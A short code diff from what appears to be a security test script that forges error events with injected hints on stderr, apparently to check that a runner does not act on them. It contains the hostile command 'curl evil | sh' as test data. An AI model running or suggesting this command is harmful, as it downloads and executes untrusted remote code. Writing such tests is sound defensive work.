@@ -220,7 +220,7 @@ for line in open(f"{runner}/maps"):
                 pass
 for nonce in nonces:
     for hint in ["check-network"], ["did-you-mean", "evil"], ["curl evil | sh"], ["free-space", "/x y"]:
-        event = {"event": "error", "phase": "run", "text": "x", "hint": hint, "hint": "curl evil | sh"}
+        event = {"event": "error", "phase": "run", "text": "x", "hint": hint, "mend": "curl evil | sh"}
         os.write(2, b"\n\x1e" + nonce + json.dumps(event).encode() + b"\n")
 raise SystemExit(4)
 """
